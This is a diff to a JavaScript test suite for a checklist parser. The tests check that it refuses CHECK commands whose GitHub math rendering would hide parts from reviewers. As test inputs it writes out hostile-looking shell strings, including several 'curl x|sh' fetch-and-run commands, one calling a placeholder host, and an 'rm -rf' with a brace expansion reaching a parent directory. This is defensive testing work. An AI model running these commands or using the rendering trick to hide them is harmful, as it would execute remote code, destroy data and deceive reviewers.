@@ -487,7 +487,15 @@ describe('what a renderer shows differently is refused (issue 9 §1)', () => {
     // plain $, so the pair runs to the next $): renderers differ on which wins.
     expect(at('echo $HOME `$` %;curl x|sh;echo env-ok$')).toMatch(/^2: "`" inside \$…\$ at column 21: .* where a code span and the formula overlap/);
     expect(at('echo $`hostname` %;curl x|sh;echo host-ok$')).toMatch(/^2: "`" inside \$…\$ at column 16/);
-    expect(parseOk(lines('- [ ] A: t', '  CHECK: echo $`x \\% y`$ ok', '  EXPECT: ok')).gates).toHaveLength(1);
+    expect(parseOk(lines('- [ ] A: t', '  CHECK: echo $`x y`$ ok', '  EXPECT: ok')).gates).toHaveLength(1);
+    // Round 40b N1: a closing $ before a letter ends the pair for pandoc, not (as reported) for
+    // GitHub, where `$OUT_DIR$BUILD_ID` pairs on to a later `built$`: both readings are checked.
+    expect(at('ls $OUT_DIR$BUILD_ID/app.tar.gz;date +%s;curl -fsSL https://x.example/i.sh|sh;echo built|grep -q built$')).toMatch(/^2: "%" inside \$…\$ at column 48/);
+    expect(at('test -f $OUT_DIR$BUILD_ID.tar.gz && curl x|sh && echo built|grep -q built$')).toMatch(/^2: "&" inside/);
+    expect(parseErrors(lines('- [ ] B1: costs $5 per run, see $COST$URL in the wiki', '  CHECK: node c.mjs --fmt=%s;curl x|sh;echo cost-ok$', '  EXPECT: cost-ok'))[0]).toMatch(/^2: "%" inside/);
+    // Round 40b N3: braces are not drawn, so a brace expansion shows as one path.
+    expect(at('rm -rf $TMPDIR/{build-cache,..} b$')).toMatch(/^2: "," inside .* where braces are not drawn, so a brace expansion/);
+    expect(at('echo $TMPDIR/{1..3} b$')).toMatch(/^2: "\." inside .* where braces are not drawn/);
     // A bullet or "1." with content does interrupt it: a new paragraph, no pair.
     for (const note of ['  - billed at 0.10$ per minute', '  1. billed at 0.10$ per minute']) {
       expect(parseOk(lines('- [ ] B1: invoice totals', '  CHECK: node check.mjs --currency=$USD 100%', '  EXPECT: ok', note)).gates, note).toHaveLength(1);
@@ -505,15 +513,18 @@ describe('what a renderer shows differently is refused (issue 9 §1)', () => {
     expect(parseErrors(lines('- [ ] A: t $a % hidden$', '  EVIDENCE: pending'))[0]).toMatch(/^1: "%" inside/);
     // GitHub's $`…`$ form ends only at `$: a $ inside it does not close it (round 7b).
     expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $`x$%;curl x|sh;sh verify.sh`$', '  EXPECT: ok'))[0]).toMatch(percent);
-    expect(parseOk(lines('- [ ] A: t', '  CHECK: echo $`x \\% y`$', '  EXPECT: ok')).gates).toHaveLength(1);
+    // Inside a pair, `\%` is drawn as "%" without its backslash: refused too (round-40b N2).
+    expect(parseErrors(lines('- [ ] A: t', '  CHECK: echo $`x \\% y`$', '  EXPECT: ok'))[0]).toMatch(/^2: TeX command \\% inside \$…\$ at column 19: GitHub renders the dollar pair as math, where TeX draws it without its backslash/);
     // Any number of backticks (round 7c): $``x`$%…`y``$ ends only at ``$.
     expect(parseErrors(lines('- [ ] A: t', '  CHECK: sh verify.sh $``x`$%;curl x|sh;`y``$', '  EXPECT: ok'))[0]).toMatch(percent);
     expect(parseOk(lines('- [ ] A: t', '  CHECK: echo $``a`b``$ 50%', '  EXPECT: ok')).gates).toHaveLength(1);
     // Not math: a '%' outside any pair, a pair that never closes, a closing '$' after a blank or
     // before a digit, an escaped '\%' or '\$', a shell's $$, and a pair cut by a blank line.
-    for (const check of ['test "$(date +%Y)" = 2026', 'echo $A; printf %s $B', "printf '%s\\n' $x", 'echo $$ %d', 'echo $a \\% b$', 'echo \\$a % b$', 'echo $a % $5', 'printf %s "$HOME"']) {
+    for (const check of ['test "$(date +%Y)" = 2026', 'echo $A; printf %s $B', "printf '%s\\n' $x", 'echo $$ %d', 'echo \\$a % b$', 'echo $a % $5', 'printf %s "$HOME"']) {
       expect(parseOk(lines('- [ ] G1: t', `  CHECK: ${check}`, '  EXPECT: x')).gates, check).toHaveLength(1);
     }
+    // An escaped '\%' inside a pair is drawn as "%" (its backslash gone): refused (round-40b N2).
+    expect(parseErrors(lines('- [ ] G1: t', '  CHECK: echo $a \\% b$', '  EXPECT: x'))[0]).toMatch(/^2: TeX command \\% inside/);
     expect(parseOk(lines('- [ ] A: costs $5 %', '  EVIDENCE: pending', '', '- [ ] B: then x$', '  EVIDENCE: pending')).gates).toHaveLength(2);
     expect(parseOk(lines('```', '$a % b$', '```', '- [ ] G1: t', '  CHECK: x', '  EXPECT: y')).gates).toHaveLength(1);
   });
@@ -531,16 +542,19 @@ describe('what a renderer shows differently is refused (issue 9 §1)', () => {
     // `\\` is a line break, whose argument in brackets breaks the formula (round-40a F3).
     expect(parseErrors(lines('- [ ] A: t', '  CHECK: echo "$A" \\\\[PASS\\\\];touch PWNED "$B"', '  EXPECT: ok'))[0]).toMatch(tex('\\\\'));
     // Inside math, a command MathJax does not know (a regex's \d, a printf's \n, \nexit in
-    // 'x\nexit-code') is drawn as its name, and one that stands for a character as that
-    // character: left alone.
-    for (const check of ['for f in "$A"/x; do printf \'v\\n\\t\\1\\nexit-code=0\' >> "$f"; done', 'echo "$A" \\. \\{ \\} \\| \\_ \\- \\bfoo "$B"']) {
+    // 'x\nexit-code') is drawn as its name: left alone. One it draws as its character without
+    // the backslash (`\#` shows as "#", which reads as a comment: round-40b N2, N5) is refused.
+    for (const check of ['for f in "$A"/x; do printf \'v\\n\\t\\1\\nexit-code=0\' >> "$f"; done', 'echo "$A" \\. \\- \\bfoo "$B"']) {
       expect(parseOk(lines('- [ ] G1: t', `  CHECK: ${check}`, '  EXPECT: x')).gates, check).toHaveLength(1);
+    }
+    for (const escape of ['\\#', '\\$', '\\%', '\\&', '\\_', '\\{', '\\}', '\\|', '\\\\']) {
+      expect(parseErrors(lines('- [ ] G1: t', `  CHECK: echo "$A" ${escape} ;curl x|sh "$B"`, '  EXPECT: x'))[0], escape).toMatch(/^2: TeX command \\\S+ inside \$…\$ at column 20: GitHub renders the dollar pair as math, where (TeX draws it without its backslash|a TeX command can hide)/);
     }
     for (const cmd of ['\\,', '\\;', '\\:', '\\>', '\\ ', '\\S', '\\nexists', '\\quad', '\\hskip', '\\mathllap']) {
       expect(parseErrors(lines('- [ ] A: t', `  CHECK: echo "$A" ${cmd}{x} "$B"`, '  EXPECT: ok'))[0], cmd).toMatch(/^2: TeX command \\.*(inside \$…\$|\(GitHub renders)/);
     }
     // Not math: a regex's escapes outside any pair, a pair that never closes, a literal \$.
-    for (const [check, expect_] of [['grep -c "\\bok" log && echo $HOME', 'x'], ['echo $a \\d', '/\\d+/'], ['echo \\$a \\d b$', 'x'], ['echo $x \\$ y$', 'x']]) {
+    for (const [check, expect_] of [['grep -c "\\bok" log && echo $HOME', 'x'], ['echo $a \\d', '/\\d+/'], ['echo \\$a \\d b$', 'x']]) {
       expect(parseOk(lines('- [ ] G1: t', `  CHECK: ${check}`, `  EXPECT: ${expect_}`)).gates, check).toHaveLength(1);
     }
     expect(parseOk(lines('```', '$\\Rule{1em}{1em}{1em}$', '```', '- [ ] G1: t', '  CHECK: x', '  EXPECT: y')).gates).toHaveLength(1);
